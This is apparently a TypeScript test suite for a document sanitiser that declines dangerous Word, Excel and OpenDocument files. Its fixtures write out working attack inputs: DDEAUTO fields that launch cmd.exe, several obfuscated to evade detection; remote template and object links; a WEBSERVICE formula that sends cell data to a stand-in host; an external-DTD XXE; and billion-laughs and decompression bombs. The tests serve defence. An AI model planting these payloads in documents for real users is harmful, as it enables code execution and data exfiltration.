/** Documents that do something when they are opened: declined before anybody is asked about them. */
import { afterAll, describe, expect, test } from 'vitest'
import { createCleaner } from '../../src/evidence/clean.ts'
import { dangersOf } from '../../src/evidence/document-dangers.ts'
import { docx, headed, odt, pptx, REFERENCES, xlsx } from '../support/documents.ts'
import { zip } from '../support/zip.ts'

const cleaner = createCleaner({ children: 1, tools: {} })
afterAll(() => cleaner.stop())

const pointing = (kind: string, target: string): Buffer =>
  docx([
    {
      name: 'word/_rels/document.xml.rels',
      content: `<Relationships xmlns="x"><Relationship Id="rId9" Type="${REFERENCES}/${kind}" TargetMode="External" Target="${target}"/></Relationships>`,
    },
  ])
const sheet = (cell: string): Buffer =>
  xlsx([{ name: 'xl/worksheets/sheet9.xml', content: `<row><c>${cell}</c></row>` }])
const open = (content: string): Buffer =>
  zip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' },
    { name: 'content.xml', content },
  ])
const utf16 = (xml: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')])

describe('what runs something', () => {
  test.each([
    ['an object from elsewhere', pointing('oleObject', 'mhtml:https://jahat.example/x.html!x-usc:y')],
    ['a template from elsewhere', pointing('attachedTemplate', 'https://jahat.example/x.dotm')],
    ['a template on another computer', pointing('attachedTemplate', '\\\\10.0.0.9\\x\\x.dotm')],
    ['a page from elsewhere', pointing('frame', 'http://jahat.example/')],
    ['a field that starts a program', headed('<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>')],
    [
      'the same in pieces',
      headed('<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r>'),
    ],
    ['a simple field', headed('<w:fldSimple w:instr="DDE cmd x"/>')],
    ['a formula that starts a program', sheet("<f>cmd|'/C calc'!A0</f>")],
    ['a formula that asks the network', sheet('<f>WEBSERVICE("https://jahat.example/"&amp;A1)</f>')],
    [
      'a link to a program',
      xlsx([{ name: 'xl/externalLinks/externalLink1.xml', content: '<ddeLink ddeService="cmd"/>' }]),
    ],
    ['OpenDocument: a link to a program', open('<text:dde-connection-decl office:dde-application="cmd"/>')],
    ['OpenDocument: a macro', open('<script:event-listener script:language="ooo:script"/>')],
    ['a drawing with a script', docx([{ name: 'word/media/a.svg', content: '<svg onload="x()"/>' }])],
    ['a field in single quotes', headed("<w:fldSimple w:instr='DDEAUTO cmd x'/>")],
    ['a field with letters in numbers', headed('<w:r><w:instrText>DDE&#65;UTO cmd</w:instrText></w:r>')],
    ['a field set apart', headed('<w:r><w:instrText><![CDATA[ DDEAUTO cmd ]]></w:instrText></w:r>')],
    ['a field around a comment', headed('<w:r><w:instrText>DDE<!-- x -->AUTO cmd</w:instrText></w:r>')],
    ['a formula without quotes, its stroke in numbers', sheet('<f>cmd&#124;calc!A0</f>')],
    ['an object whose kind is written in numbers', pointing('ole&#79;bject', 'https://jahat.example/x')],
    ['one behind a value with a bracket', pointing('oleObject" x="a>b', 'https://jahat.example/x')],
    ['a part under another name', docx([{ name: 'word/catatan.dat', content: '<w:fldSimple w:instr="DDE cmd x"/>' }])],
    [
      'what is hidden by another encoding',
      docx([{ name: 'word/footer9.xml', content: utf16('<w:fldSimple w:instr="DDE cmd x"/>') }]),
    ],
  ])('%s', async (_, file) => expect(await cleaner.clean(file)).toEqual({ kind: 'declined', reason: 'invalid' }))
})

describe('what unfolds without end', () => {
  const lol = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
  const large = Buffer.alloc(24)
  large.write('\x89PNG\r\n\x1a\n', 'latin1')
  large.writeUInt32BE(30_000, 16)
  large.writeUInt32BE(30_000, 20)
  test.each([
    [
      'a part that is larger than the table says',
      [{ name: 'word/x.xml', content: Buffer.alloc(250_000_000), claims: 1000 }],
      'too-full',
    ],
    [
      'entities from elsewhere',
      [{ name: 'word/footnotes.xml', content: '<!DOCTYPE x SYSTEM "http://jahat.example/x.dtd"><x/>' }],
      'invalid',
    ],
    ['entities', [{ name: 'word/footnotes.xml', content: lol }], 'invalid'],
    [
      'a picture of 900 megapixels',
      [{ name: 'word/media/a.png', content: Buffer.concat([large, Buffer.alloc(99)]) }],
      'too-full',
    ],
  ] as const)('%s', async (_, extra, reason) => {
    expect(await cleaner.clean(docx(extra))).toEqual({ kind: 'declined', reason })
  })
})

test.each([
  ['comments', '<!--'],
  ['sections', '<![CDATA['],
  ['kinds of documents', '<!DOCTYPE'],
  ['links of programs', "<f>|'"],
])('%s without end are told at once', (_, piece) => {
  const file = docx([{ name: 'word/x.xml', content: `<x>${piece.repeat(200_000)}</x>` }])
  const begun = process.cpuUsage()
  expect(['invalid', 'none']).toContain(dangersOf(file))
  expect(process.cpuUsage(begun).user / 1e6).toBeLessThan(8)
})

test.each([
  ['a letter', docx()],
  ['a sheet', xlsx()],
  ['slides', pptx()],
  ['an open document', odt()],
  ['a link that somebody presses', pointing('hyperlink', 'https://contoh.example/berita')],
  ['a sheet of the same computer', pointing('oleObject', 'file:///C:\\Users\\x\\daftar.xlsx')],
  ['a sum', sheet('<f>SUM(A1:A3)|B1</f>')],
  ['words with a stroke', sheet('<f>A1&amp;"|\'"&amp;Sheet2!B2</f>')],
  ['words about it', headed('<w:r><w:t>DDE dan "cmd" hanya kata</w:t></w:r>')],
])('%s is no danger', (_, file) => expect(dangersOf(file)).toBe('none'))
